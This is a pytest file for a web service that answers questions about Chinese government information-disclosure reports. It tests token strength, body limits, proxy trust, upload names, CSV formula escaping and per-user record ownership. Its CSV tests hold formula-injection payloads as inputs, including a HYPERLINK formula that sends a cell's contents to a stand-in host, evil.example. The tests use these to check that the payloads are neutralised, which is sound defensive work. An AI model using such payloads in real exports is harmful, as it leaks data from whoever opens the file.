"""Hostile users of `nianbao serve`: weak or repeated tokens refused at start, bodies capped
before they are read, forwarded addresses believed from configured proxies only, long
upload names, CSV cells that would run as formulas, and answer records that belong to
whoever asked (feedback theirs, or an admin's, said so)."""

from __future__ import annotations

import csv
import io
import shutil
import socket
import sqlite3
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from conftest import HEYANG, IngestedCorpus, corpus_files, run_cli

from bot.answer import table_csv
from bot.config import Config, ConfigError, Embedding, WebSettings, WebUser, load_config
from bot.csvsafe import safe_cell
from bot.environment import environment_problem
from bot.service import Service
from bot.web import create_app, server_options
from bot.web_routes import MAX_NAME_BYTES

ADMIN = WebUser("王管理", "admin-token-0123456789", admin=True)
ALICE = WebUser("李科员", "alice-token-9876543210")
BOB = WebUser("张科员", "bob-token-5555555555555")


def bearer(user: WebUser) -> dict[str, str]:
    return {"Authorization": f"Bearer {user.token}"}


def config_for(data_dir: Path, **web: Any) -> Config:
    return Config(data_dir=data_dir, embedding=Embedding("fake"), web=WebSettings(users=[ADMIN, ALICE, BOB], **web))


@pytest.fixture(scope="module")
def store(ingested: IngestedCorpus, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return ingested.copy(tmp_path_factory, "hygiene")


@pytest.fixture(scope="module")
def app(store: Path) -> Any:
    return create_app(Service.open(config_for(store)))


@pytest.fixture
async def client(app: Any) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t", timeout=120) as c:
        yield c


# ------------------------------------------------------------------ tokens, at start
WEAK = {
    "short": '[[web.users]]\nname = "a"\ntoken = "short-token"\n',
    "the example's": '[[web.users]]\nname = "a"\ntoken = "change-me"\n',
    "spaces around": '[[web.users]]\nname = "a"\ntoken = " abcdefghijklmnopqrstuvwxyz "\n',
    "twice": '[[web.users]]\nname = "a"\ntoken = "abcdefghijklmnopqrstuvwxyz"\n'
    '[[web.users]]\nname = "b"\ntoken = "abcdefghijklmnopqrstuvwxyz"\n',
    "one name, two people": '[[web.users]]\nname = "a"\ntoken = "abcdefghijklmnopqrstuvwxyz"\n'
    '[[web.users]]\nname = "a"\ntoken = "zyxwvutsrqponmlkjihgfedcba"\n',
}


@pytest.mark.parametrize("toml", WEAK.values(), ids=WEAK.keys())
def test_weak_tokens_are_refused_at_start_in_one_line(tmp_path: Path, toml: str) -> None:
    path = tmp_path / "c.toml"
    path.write_text(toml, encoding="utf-8")
    with pytest.raises(ConfigError, match=r"\[\[web.users\]\] entry"):
        load_config(path)
    result = run_cli("serve", "--config", path)
    assert result.exit_code == 2
    assert len(result.stderr.strip().splitlines()) == 1 and "web.users" in result.stderr, result.stderr


def test_a_good_token_is_taken(tmp_path: Path) -> None:
    path = tmp_path / "c.toml"
    path.write_text('[[web.users]]\nname = "a"\ntoken = "abcdefghijklmnopqrstuvwxyz"\n', encoding="utf-8")
    assert load_config(path).web.users == [WebUser("a", "abcdefghijklmnopqrstuvwxyz")]


# ------------------------------------------------------------------ proxies
def test_forwarded_headers_are_believed_from_configured_proxies_only(tmp_path: Path) -> None:
    import uvicorn
    from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

    async def nothing(scope: Any, receive: Any, send: Any) -> None:
        return None

    plain = uvicorn.Config(nothing, **server_options(config_for(tmp_path)))
    plain.load()
    assert not isinstance(plain.loaded_app, ProxyHeadersMiddleware)
    behind = uvicorn.Config(nothing, **server_options(config_for(tmp_path, trusted_proxies=["10.0.0.7"])))
    behind.load()
    assert isinstance(behind.loaded_app, ProxyHeadersMiddleware) and behind.forwarded_allow_ips == "10.0.0.7"
    path = tmp_path / "c.toml"
    path.write_text('[web]\ntrusted_proxies = ["10.0.0.7"]\n', encoding="utf-8")
    assert load_config(path).web.trusted_proxies == ["10.0.0.7"]


# ------------------------------------------------------------------ bodies
async def test_a_huge_body_is_refused_before_it_is_read(client: httpx.AsyncClient) -> None:
    huge = b'{"question": "' + b"a" * (2 * 1024 * 1024) + b'"}'
    response = await client.post("/api/ask", content=huge, headers=bearer(ALICE) | {"Content-Type": "application/json"})
    assert response.status_code == 413 and "KB limit" in response.json()["detail"]


async def test_a_body_of_unknown_size_is_refused(client: httpx.AsyncClient) -> None:
    async def chunks() -> AsyncIterator[bytes]:
        yield b'{"question": "'
        yield b'x"}'

    response = await client.post(
        "/api/ask", content=chunks(), headers=bearer(ALICE) | {"Content-Type": "application/json"}
    )
    assert response.status_code == 411


# ------------------------------------------------------------------ uploads
@pytest.mark.slow
async def test_a_long_chinese_upload_name_is_shortened_by_bytes(tmp_path: Path) -> None:
    app = create_app(Service.open(config_for(tmp_path / "data")))
    report = next(f for f in corpus_files() if f.name == HEYANG).read_bytes()
    name = "合阳县人民政府" * 30 + ".txt"  # 210 characters, 632 bytes: over any file system's 255
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://t", timeout=120) as c:
        response = await c.post("/api/ingest", headers=bearer(ADMIN), files={"file": (name, report)})
        assert response.status_code == 200, response.text
        refused = await c.post("/api/ingest", headers=bearer(ADMIN), files={"file": ("说明" * 120 + ".txt", b"hello")})
        assert refused.status_code == 422
    kept = [p for p in (tmp_path / "data" / "uploads").rglob("*") if p.is_file()]
    assert len(kept) == 1 and len(kept[0].name.encode("utf-8")) <= MAX_NAME_BYTES and kept[0].suffix == ".txt"
    folders = [p for p in (tmp_path / "data" / "uploads").iterdir()]
    assert folders == [kept[0].parent]  # the refused upload left no (empty) folder


# ------------------------------------------------------------------ CSV
def test_cells_that_would_run_are_quoted_numbers_are_not() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", " =x")] == [
        "'=1+1",
        "'+cmd",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "' =x",
    ]
    assert [safe_cell(v) for v in (-18, "-18", "+3.5", "增172", "合阳县", None)] == [
        -18,
        "-18",
        "+3.5",
        "增172",
        "合阳县",
        "",
    ]
    rows = list(
        csv.reader(io.StringIO(table_csv([{"issuer": '=HYPERLINK("http://x")', "value": -4}]).decode("utf-8-sig")))
    )
    assert rows[1] == ['\'=HYPERLINK("http://x")', "-4"]


async def test_the_answers_export_quotes_a_question_written_as_a_formula(client: httpx.AsyncClient) -> None:
    question = '=HYPERLINK("http://evil.example/?"&A1,"合阳县2020年收到多少申请")'
    asked = await client.post("/api/ask", json={"question": question}, headers=bearer(ALICE))
    assert asked.status_code == 200
    export = await client.get("/api/answers.csv", headers=bearer(ADMIN))
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    cells = [r["question"] for r in rows if "evil.example" in r["question"]]
    assert cells and all(c.startswith("'=") for c in cells)


# ------------------------------------------------------------------ records belong to their askers
async def test_an_answer_is_its_askers(client: httpx.AsyncClient) -> None:
    asked = await client.post(
        "/api/ask", json={"question": "合阳县2020年收到多少政府信息公开申请"}, headers=bearer(ALICE)
    )
    answer_id = asked.json()["id"]
    mine = await client.get(f"/api/answers/{answer_id}", headers=bearer(ALICE))
    assert mine.status_code == 200 and mine.json()["read_only"] is False
    copy = await client.get(f"/api/answers/{answer_id}", headers=bearer(BOB))
    assert copy.status_code == 200 and copy.json()["read_only"] is True
    assert copy.json()["answer"] == mine.json()["answer"]

    assert (
        await client.post(f"/api/answers/{answer_id}/feedback", json={"verdict": "good"}, headers=bearer(BOB))
    ).status_code == 403
    assert (
        await client.post(f"/api/answers/{answer_id}/feedback", json={"verdict": "good"}, headers=bearer(ALICE))
    ).status_code == 200
    by_admin = await client.post(f"/api/answers/{answer_id}/feedback", json={"verdict": "good"}, headers=bearer(ADMIN))
    assert by_admin.status_code == 200 and by_admin.json()["as_admin"] is True
    assert (await client.get(f"/api/answers/{answer_id}", headers=bearer(ADMIN))).json()["read_only"] is False
    record = next(a for a in (await client.get("/api/answers", headers=bearer(ADMIN))).json() if a["id"] == answer_id)
    assert record["user"] == ALICE.name and record["note"] == f"feedback by admin {ADMIN.name}"


# ------------------------------------------------------------------ the machine fails: one line, exit 2 / 503
NIANBAO = [
    sys.executable,
    "-c",
    (f"import sys; sys.path.insert(0, {str(Path(__file__).resolve().parents[1])!r}); from bot.cli import main; main()"),
]


def damage(data_dir: Path, whole: bool = False) -> None:
    """Overwrite nianbao.db's header (`whole`: every page, the log left alone: it is in use),
    as a bad disk or a stray `cp` would."""
    db = data_dir / "nianbao.db"
    size = db.stat().st_size
    with db.open("r+b") as f:
        f.write(b"\0not a database\0" * (size // 16 if whole else 8))
    if not whole:
        for extra in ("nianbao.db-wal", "nianbao.db-shm"):
            (data_dir / extra).unlink(missing_ok=True)


@pytest.mark.slow
def test_a_damaged_store_is_one_line_and_exit_2(store: Path, tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(store, data)
    damage(data)
    config = tmp_path / "c.toml"
    config.write_text(f'data_dir = "{data.as_posix()}"\n[embedding]\nmodel = "fake"\n', encoding="utf-8")
    for args in (["reports", "--json"], ["ask", "合阳县2020年收到多少政府信息公开申请"]):
        done = subprocess.run(
            [*NIANBAO, *args, "--config", str(config)], capture_output=True, text=True, timeout=120, check=False
        )
        assert done.returncode == 2, done.stderr
        assert done.stderr.strip().splitlines() == [done.stderr.strip()] and "damaged" in done.stderr


async def test_a_store_damaged_while_serving_is_a_json_503(store: Path, tmp_path: Path) -> None:
    data = tmp_path / "data"
    shutil.copytree(store, data)
    db = sqlite3.connect(data / "nianbao.db")
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # every page in the file, none in the log
    db.close()
    app = create_app(Service.open(config_for(data)))
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app, raise_app_exceptions=False), base_url="http://t", timeout=120
    ) as c:
        assert (await c.get("/api/me", headers=bearer(ALICE))).status_code == 200
        damage(data, whole=True)
        response = await c.get("/api/figures?metric=applications.received", headers=bearer(ALICE))
    assert response.status_code == 503 and "damaged" in response.json()["detail"]


def test_a_server_gone_mid_run_is_named_in_one_line() -> None:
    with socket.socket() as s:  # a port nobody listens on once closed
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    with pytest.raises(httpx.ConnectError) as caught:
        httpx.get(f"http://127.0.0.1:{port}/api/v2/heartbeat", timeout=5)
    problem = environment_problem(caught.value)
    assert problem is not None and f"127.0.0.1:{port}" in problem and "\n" not in problem
    assert environment_problem(ValueError("a bug")) is None
    assert environment_problem(sqlite3.IntegrityError("a bug")) is None
